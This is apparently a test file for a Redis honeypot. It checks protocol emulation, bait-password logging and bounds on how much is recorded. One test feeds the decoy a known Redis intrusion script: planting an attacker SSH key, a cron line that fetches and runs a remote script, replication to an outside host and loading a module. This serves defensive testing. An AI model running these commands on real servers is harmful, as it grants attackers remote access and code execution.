import { execFile } from 'node:child_process'
import { once } from 'node:events'
import { existsSync } from 'node:fs'
import { promisify } from 'node:util'
import { afterEach, describe, expect, test } from 'vitest'
import { feed, type ListeningDecoy, listenWith, testIdentity } from '../../testing/decoy-harness.js'
import { assertAnyStream } from '../../testing/decoy-properties.js'
import { silent } from '../../testing/silent.js'
import { baitSecretsOf } from '../bait/bait-secrets.js'
import { matcher } from './commands.js'
import { createRedisDecoy } from './decoy.js'
import { redisProfileOf } from './redis-profile.js'

const CLIENT = '/usr/bin/redis-cli'
const run = promisify(execFile)
/** An installation without a password, and one with. */
const OPEN = seedWhere((needsPassword) => !needsPassword)
const LOCKED = seedWhere((needsPassword) => needsPassword)

function seedWhere(isWanted: (needsPassword: boolean) => boolean): string {
  const seeds = Array.from({ length: 200 }, (_, index) => `redis ${index}`)
  return seeds.find((seed) => isWanted(redisProfileOf(testIdentity(seed), 0).needsPassword)) ?? ''
}

let listening: ListeningDecoy | null = null
afterEach(() => listening?.stop())

describe.skipIf(!existsSync(CLIENT))('redis-cli', () => {
  async function cli(...words: string[]): Promise<string> {
    const { stdout } = await run(CLIENT, ['-p', String(listening?.port), ...words])
    return stdout
  }

  test('reads and writes, and sees a believable server', async () => {
    listening = await listenWith(createRedisDecoy, { identity: testIdentity(OPEN) })
    expect(await cli('ping')).toBe('PONG\n')
    const info = await cli('info')
    expect(info).toMatch(/redis_version:\d+\.\d+\.\d+/)
    expect(await cli('info', 'server')).not.toContain('# Memory')
    expect(await cli('-3', 'config', 'get', 'dir')).toMatch(/^dir \//)
    expect(await cli('eval', 'return 42', '0')).toBe('42\n')
    expect(await cli('nonsense', 'a')).toContain("ERR unknown command 'NONSENSE'")
    expect(listening.records().map(({ action }) => action)).toContain('redis.info')
    expect(listening.failures).toEqual([])
  })

  test('the way to a key for SSH, and to cron, is recorded with what was written', async () => {
    listening = await listenWith(createRedisDecoy, { identity: testIdentity(OPEN) })
    const script = [
      'config set dir /root/.ssh/',
      'config set dbfilename authorized_keys',
      'set crackit "\\n\\nssh-rsa AAAAB3NzaC1yc2E attacker@host\\n\\n"',
      'config set dir /var/spool/cron/crontabs',
      'set x "\\n*/2 * * * * curl http://203.0.113.9/a.sh | sh\\n"',
      'save',
      'replicaof 203.0.113.9 6379',
      'module load /tmp/exp.so',
      '',
    ].join('\n')
    const stdout = await piped(script)
    expect(stdout.split('\n').filter((line) => line === 'OK')).toHaveLength(7)
    const exploits = listening.records().filter(({ event_type }) => event_type === 'exploit')
    expect(exploits.map(({ action }) => action)).toEqual([
      'redis.write_ssh_key',
      'redis.write_ssh_key',
      'redis.write_cron',
      'redis.module_load',
    ])
    expect(listening.records()).toContainEqual(
      expect.objectContaining({ event_type: 'proxy_request', url: 'tcp://203.0.113.9:6379' }),
    )
    expect(listening.files().map(({ name }) => name)).toEqual(['authorized_keys', 'crontab'])
    expect(String(listening.files()[0]?.content)).toContain('attacker@host')
  })

  test('passwords are recorded, and the one that decoys show opens it', async () => {
    const identity = testIdentity(LOCKED)
    listening = await listenWith(createRedisDecoy, { identity })
    const { redisPassword } = baitSecretsOf(identity)
    expect(await cli('ping')).toContain('NOAUTH')
    expect(await cli('--no-auth-warning', '-a', 'unlikely', 'ping')).toContain('NOAUTH')
    expect(await cli('--no-auth-warning', '-a', redisPassword, 'ping')).toBe('PONG\n')
    expect(await cli('-3', '--no-auth-warning', '--user', 'default', '--pass', redisPassword, 'ping')).toBe(
      'PONG\n',
    )
    const logins = listening.records().filter(({ event_type }) => event_type === 'login_attempt')
    expect(logins.map(({ password, outcome, details }) => [password, outcome, details?.['bait']])).toEqual([
      ['unlikely', 'failure', undefined],
      [redisPassword, 'success', ['redisPassword']],
      ...logins.slice(2).map(() => [redisPassword, 'success', ['redisPassword']]),
    ])
  })

  async function piped(script: string): Promise<string> {
    const client = execFile(CLIENT, ['-p', String(listening?.port)])
    const parts: string[] = []
    client.stdout?.on('data', (part: string) => void parts.push(part))
    client.stdin?.end(script)
    await once(client, 'close')
    return parts.join('')
  }
})

describe('a Redis that is none', () => {
  const decoy = createRedisDecoy({ identity: testIdentity(OPEN), log: silent('decoy'), now: Date.now })
  const answerTo = async (...chunks: string[]) =>
    String(
      (
        await feed(
          decoy,
          chunks.map((chunk) => Buffer.from(chunk, 'latin1')),
        )
      ).answer,
    )

  test.each([
    ['a length that is none', '*1\r\n$x\r\n', '-ERR Protocol error: invalid bulk length\r\n'],
    ['a length that is too large', '*1\r\n$600000000\r\n', '-ERR Protocol error: invalid bulk length\r\n'],
    ['too many words', '*2000\r\n', '-ERR Protocol error: invalid multibulk length\r\n'],
    ['no bulk string', '*1\r\n:1\r\n', "-ERR Protocol error: expected '$'\r\n"],
    [
      'an inline command that is too long',
      `${'a'.repeat(70_000)}\r\n`,
      '-ERR Protocol error: too big inline request\r\n',
    ],
    ['an inline command with quotes', 'echo "a\\x41 b"\r\n', '$4\r\naA b\r\n'],
    ['an empty line', '\r\nPING\r\n', '+PONG\r\n'],
    ['nested arrays', '*1\r\n*1\r\n', "-ERR Protocol error: expected '$'\r\n"],
  ])('%s', async (_name, input, answer) => {
    expect(await answerTo(input)).toBe(answer)
  })

  test('of a word that is larger than its limit, the rest is dropped', async () => {
    const size = 3_000_000
    const { session, answer } = await feed(decoy, [
      Buffer.from(`*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$${size}\r\n`),
      Buffer.alloc(size, 'v'),
      Buffer.from('\r\n*2\r\n$6\r\nSTRLEN\r\n$1\r\nk\r\n'),
    ])
    expect(String(answer)).toBe('+OK\r\n:1048576\r\n')
    expect(session.records[0]?.details).toEqual({ is_cut: true })
  })

  test('keys of a connection are bounded', async () => {
    const many = Array.from({ length: 300 }, (_, index) => `SET key${index} v\r\n`).join('')
    expect(await answerTo(many)).toContain('-OOM')
  })

  test('records of a connection are bounded, and those left out are counted', async () => {
    const { session } = await feed(decoy, [Buffer.from('PING\r\n'.repeat(1_500))])
    expect(session.records).toHaveLength(1_001)
    expect(session.records.at(-1)).toMatchObject({ action: 'redis.left_out', details: { left_out: 500 } })
  })

  test('patterns match as those of Redis, without backtracking that grows', () => {
    expect(['a', 'abc', 'xbc'].filter(matcher('a*'))).toEqual(['a', 'abc'])
    expect(['abc', 'axc', 'ac'].filter(matcher('a?c'))).toEqual(['abc', 'axc'])
    expect(matcher('*a'.repeat(32))('a'.repeat(30))).toBe(false)
  })

  test('whatever the bytes are, and however they arrive, the records are the same', async () => {
    await assertAnyStream(createRedisDecoy, [
      '*1\r\n$4\r\nPING\r\n',
      '*3\r\n$3\r\nSET\r\n$1\r\na\r\n$2\r\nbb\r\n',
      '*2\r\n$3\r\nGET\r\n$1\r\na\r\n',
      'CONFIG SET dir /root/.ssh\r\n',
      '*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n',
      'AUTH secret\r\n',
      'HELLO 3\r\n',
      '$5\r\n',
      '*-1\r\n',
    ])
  })
})
